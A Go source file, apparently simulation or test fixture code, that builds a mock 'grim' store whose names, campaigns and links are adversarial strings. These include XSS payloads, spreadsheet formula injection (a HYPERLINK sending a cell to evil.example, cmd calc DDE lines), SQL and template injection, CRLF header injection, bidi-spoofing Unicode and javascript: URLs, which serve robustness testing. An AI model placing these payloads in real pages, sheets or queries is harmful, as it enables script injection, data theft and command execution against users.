package world

import (
	"fmt"
	"hash/fnv"
	"strings"
)

// GrimTexts are strings that break pages, spreadsheets, mails, terminals and databases that trust what they show.
var GrimTexts = []string{
	`<script>window.pwned=1</script>`,
	`</script><script>window.pwned=2</script>`,
	`"><img src=x onerror="window.pwned=3">`,
	`</textarea></title></style><svg onload=window.pwned=4>`,
	`=HYPERLINK("http://evil.example/?x="&A1,"total")`,
	`+cmd|'/C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r\nX-Injected: yes\r\n\r\n<h1>body</h1>",
	"تخفيض 20٪ على الأحذية (جديد) 123",
	"מבצע: \"שתיים במחיר אחת\" – 50%",
	"\u202Egpj.exe offer\u202C and \u2066isolated\u2069 \u200Fmark",
	"\u2067never closed isolate \u202Enever closed override",
	"👩‍👩‍👧‍👦🏳️‍🌈🇯🇵👍🏽 zero\u200Bwidth\u200Djoin\uFEFFbom",
	"Z̵̧̛͓a̶͖̍l̷̰̈g̴̱̈́o̵̢͝ " + strings.Repeat("é́́́", 8),
	strings.Repeat("W", 300),
	strings.Repeat("long words and more of them ", 11)[:300],
	`back\slash \" quote ' tick ` + "`" + ` \u003c \x00 %00 %s %d %n {0}`,
	`'; drop table offers; --`,
	`{{.Secret}} {{7*7}} ${7*7} #{7*7} <%= 7*7 %> [[7*7]] @(1+1)`,
	"`${alert(1)}` });alert(1)//",
	`javascript:alert(document.domain)`,
	`&lt;b&gt; &amp;amp; &#x202e; &nbsp;`,
	"line one\nline two\u2028line three\u2029line four\u0085five",
	"bell\a escape\x1b[31mred\x1b[0m backspace\b delete\x7f",
	"replaced \uFFFD private \uE000 tag \U000E0041 plane \U0001F9FF",
	"   leading and trailing spaces   ",
	"null", "NaN", "undefined", "__proto__", "1e309", "-0",
	`<!-- comment --><![CDATA[ cdata ]]><?php echo 1 ?>`,
	`<a href="http://evil.example">click</a><base href="//evil.example/"><meta http-equiv=refresh content=0>`,
	"ＦＵＬＬ　ＷＩＤＴＨ ŞşİıẞSS ﬁ ﷽",
}

// grimURLs are where a link to the admin should; the first two are what a page may link to.
var grimURLs = []string{
	"", // the ordinary one
	"https://grim.example/admin/offers?a=1&b=%22%3E%3Cscript%3E",
	"javascript:alert(1)",
	"JaVaScRiPt:alert(1)//https://grim.example/admin",
	"http://grim.example/admin/offers/plain",
	"data:text/html,<script>alert(1)</script>",
	"//evil.example/admin",
	"/relative/admin",
	"https://grim.example@evil.example/admin",
	" \tjavascript:alert(2)",
	"vbscript:msgbox(1)",
	"https://grim.example/\" onmouseover=\"alert(1)",
	"https:/\\evil.example\u202E/gro.elpmaxe",
	"not a url at all <b>",
}

// grim sells in Nairobi and writes every string as an attacker or an accident would; see Config.Hostile. Its domain, zone, currency,
// statuses, placements and dates are those of an ordinary store, and no string holds a NUL, which
// is a broken reply rather than a hostile name: a Fault's Edit can write one.
func grim() shopPlan {
	plan := shopPlan{
		Slug: "grim", Name: `<b>Grim</b> & "Sons" ` + "\u202E💀</script>=1+1", Domain: "grim.example", Zone: "Africa/Nairobi", Currency: "KES", Digits: 2,
		hostile: true, daily: 60, week: weekOf(1, 1, 1, 1), swing: 0.05, peak: 90, Basket: 4200, seen: [Placements]float64{0.9, 0.95, 0.5, 0.4},
		Gift: giftPlan{
			Plan: `<script>window.pwned=5</script>`, Platform: `=1+1`, Theme: GrimTexts[3], Blocks: true, Embed: true, Languages: []string{"en", "ar", "he", "pt-BR"},
		},
	}
	for i, text := range GrimTexts {
		plan.Products = append(plan.Products, product{text, int64(9900 + 5000*i)})
		plan.Catalog.kinds = append(plan.Catalog.kinds, GrimTexts[i/5])
	}
	plan.Products = append(plan.Products, product{GrimTexts[0], 77700}) // a second one of the same title
	plan.Catalog.Collections = GrimTexts[1:7]
	plan.Catalog.Tags = GrimTexts[10:18]
	plan.Catalog.Lost = GrimTexts[:2]
	plan.Catalog.lostCollections = GrimTexts[2:3]
	texts := len(GrimTexts)
	for i := range texts + 11 { // every placement gets other texts the second time
		o := offerPlan{
			Name: GrimTexts[i%texts], At: Placement((i + i/texts) % int(Placements)), Product: i % texts, off: i % 4 * 10, Start: 3 + 7*i, weight: 1,
			accept: 0.04 + 0.01*float64(i%6), AbTest: i%5 == 0, Url: grimURLs[i%len(grimURLs)],
		}
		if o.At == PostPurchase {
			o.Then = 1 + i%(texts-1)
		}
		switch i % 9 {
		case 3:
			o.End = o.Start + 60
		case 5:
			o.Start, o.lead = 520+7*i, 120+7*i
		case 7:
			if i >= texts { // another offer keeps its name
				o.gone = 470
			}
		}
		plan.offerPlans = append(plan.offerPlans, o)
	}
	plan.offerPlans[1].oddID = `<i>&"'%41?#;=é 💀`
	for i := range 12 {
		plan.campaigns = append(plan.campaigns, CampaignPlan{
			Name: GrimTexts[3*i], Code: GrimTexts[3*i+1], Kind: "order_value", Page: "cart", Start: 10 + 20*i, from: 400000, Rate: 0.02,
		})
	}
	plan.campaigns[1].oddID = plan.offerPlans[1].oddID
	for i := range 20 {
		plan.edits = append(plan.edits, edit{day: firstEdit + i, does: renamed, plan: 2 * i, to: fmt.Sprint(GrimTexts[(2*i+9)%texts], " ", i)})
	}
	return plan
}

// Word is a word of the service itself; in the hostile store it has something behind it, always the same.
func (sh *Shop) Word(s string) string {
	if !sh.hostile {
		return s
	}
	h := fnv.New32a()
	_, _ = h.Write([]byte(s))
	return s + " " + GrimTexts[int(h.Sum32()%uint32(len(GrimTexts)))]
}
